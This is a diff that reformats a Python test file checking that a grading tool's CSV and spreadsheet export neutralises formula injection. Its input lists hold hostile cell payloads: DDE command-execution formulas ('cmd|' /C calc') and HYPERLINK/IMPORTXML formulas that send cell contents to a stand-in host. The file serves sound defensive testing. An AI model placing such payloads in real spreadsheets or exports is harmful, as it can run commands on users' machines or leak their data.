@@ -19,20 +19,78 @@ from examiner.report.grades import Grades, Row
 from examiner.report.sheets import safe_cell, write_csv, write_sheet
 
 FORMULAS = [
-    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"mark")',
-    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "−1",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x/?"&A1,"mark")',
+    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "﹦1",
+    "−1",
 ]
 BEFORE = [
-    "", " ", "\u00a0", "\u3000", "\t", "\r", "\n", "\r\n", "\0", "\x1b", "\u200b", "\u202e", "\ufeff", '"', '""', "“", "' ", " \" \t", "\ud800",
+    "",
+    " ",
+    "\u00a0",
+    "\u3000",
+    "\t",
+    "\r",
+    "\n",
+    "\r\n",
+    "\0",
+    "\x1b",
+    "\u200b",
+    "\u202e",
+    "\ufeff",
+    '"',
+    '""',
+    "“",
+    "' ",
+    ' " \t',
+    "\ud800",
     "\x85",
 ]
 SPLITTERS = ["a;", "a|", "a\t", "a\n", "a\r\n", "a;;", 'a";"', "a; ", "a\n\n ", "a;\t"]
 HOSTILE = [
-    *(before + formula for before, formula in product(BEFORE, FORMULAS)), *(before + formula for before, formula in product(SPLITTERS, FORMULAS)),
-    "=", "-", '","=1+1', "'\n=1", "\t", "\n", "x\udcff", "a\0b", "=" * 5000, "\t" * 5000, ";=" * 2500,
+    *(before + formula for before, formula in product(BEFORE, FORMULAS)),
+    *(before + formula for before, formula in product(SPLITTERS, FORMULAS)),
+    "=",
+    "-",
+    '","=1+1',
+    "'\n=1",
+    "\t",
+    "\n",
+    "x\udcff",
+    "a\0b",
+    "=" * 5000,
+    "\t" * 5000,
+    ";=" * 2500,
 ]
-HONEST = ["", "ada", "Müller, jr., Zoë \"Z\"", "O'Neill", "ada@example.org", "a - b", "x=1", "3 + 4 = 7", "1_basic/softmax", "    Points Possible",
-          "submitted/s/a: it is not JSON; ask the student", "two\nlines", "with\ttab", "4711", "a;b|c", "李 小龙", "علی‌رضا", "¿Qué? −", "'='"]
+HONEST = [
+    "",
+    "ada",
+    'Müller, jr., Zoë "Z"',
+    "O'Neill",
+    "ada@example.org",
+    "a - b",
+    "x=1",
+    "3 + 4 = 7",
+    "1_basic/softmax",
+    "    Points Possible",
+    "submitted/s/a: it is not JSON; ask the student",
+    "two\nlines",
+    "with\ttab",
+    "4711",
+    "a;b|c",
+    "李 小龙",
+    "علی‌رضا",
+    "¿Qué? −",
+    "'='",
+]
 BLIND = {"Cc", "Cf", "Cs", "Zs", "Zl", "Zp"}
 
 
@@ -40,7 +98,7 @@ def cells(text: str) -> Iterator[str]:
     """What programs of several countries take for cells."""
     yield from (cell for line in csv.reader(text.splitlines(keepends=True)) for cell in line)
     for splitter, quoting in product(";|\t", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE]):
-        csv.field_size_limit(10 ** 6)
+        csv.field_size_limit(10**6)
         yield from (cell for line in csv.reader(text.splitlines(), delimiter=splitter, quoting=quoting) for cell in line)
 
 
@@ -74,9 +132,24 @@ def test_what_is_harmless_is_written_as_it_is(text: str) -> None:
     assert safe_cell(text) == text
 
 
-@pytest.mark.parametrize(("text", "safe"), [
-    ("=1", "'=1"), (" =1", " '=1"), ('"=1', "\"'=1"), ("a;=1+1", "a;'=1+1"), ("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("＝1+1", "'＝1+1"),
-    ("a|@x", "a|'@x"), ("a\n-x", "a\n'-x"), ("\0=1", "\\x00'=1"), ("\udcff=1", "\\udcff'=1"), ("x\0y", "x\\x00y"), ("==", "'==")])
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1", "'=1"),
+        (" =1", " '=1"),
+        ('"=1', "\"'=1"),
+        ("a;=1+1", "a;'=1+1"),
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+        ("＝1+1", "'＝1+1"),
+        ("a|@x", "a|'@x"),
+        ("a\n-x", "a\n'-x"),
+        ("\0=1", "\\x00'=1"),
+        ("\udcff=1", "\\udcff'=1"),
+        ("x\0y", "x\\x00y"),
+        ("==", "'=="),
+    ],
+)
 def test_the_sign_itself_is_marked(text: str, safe: str) -> None:
     assert safe_cell(text) == safe
 
@@ -115,8 +188,14 @@ def test_what_cannot_be_written_to_its_end_leaves_what_was_there(tmp_path: Path,
     path = tmp_path / "x.csv"
     if older:
         path.write_text("old", encoding="utf-8")
-    done = subprocess.run([sys.executable, "-c", TOO_LITTLE_ROOM, str(path)], env={**os.environ, "PYTHONPATH": str(ROOT)}, text=True,
-                          capture_output=True, timeout=60, check=False)
+    done = subprocess.run(
+        [sys.executable, "-c", TOO_LITTLE_ROOM, str(path)],
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        text=True,
+        capture_output=True,
+        timeout=60,
+        check=False,
+    )
     assert "File too large" in done.stderr
     assert {file.name: file.read_text(encoding="utf-8") for file in tmp_path.iterdir()} == ({"x.csv": "old"} if older else {})
 
@@ -132,6 +211,7 @@ def test_a_new_file_has_the_rights_of_the_older_and_a_link_goes_on_leading_there
 
 def test_a_pipe_gets_the_text() -> None:
     code = "from pathlib import Path\nfrom examiner.report.sheets import write_sheet\nwrite_sheet(Path('/dev/stdout'), [['=1', 2]])"
-    done = subprocess.run([sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": str(ROOT)}, text=True, capture_output=True,
-                          timeout=60, check=True)
+    done = subprocess.run(
+        [sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": str(ROOT)}, text=True, capture_output=True, timeout=60, check=True
+    )
     assert done.stdout == "'=1,2\n"
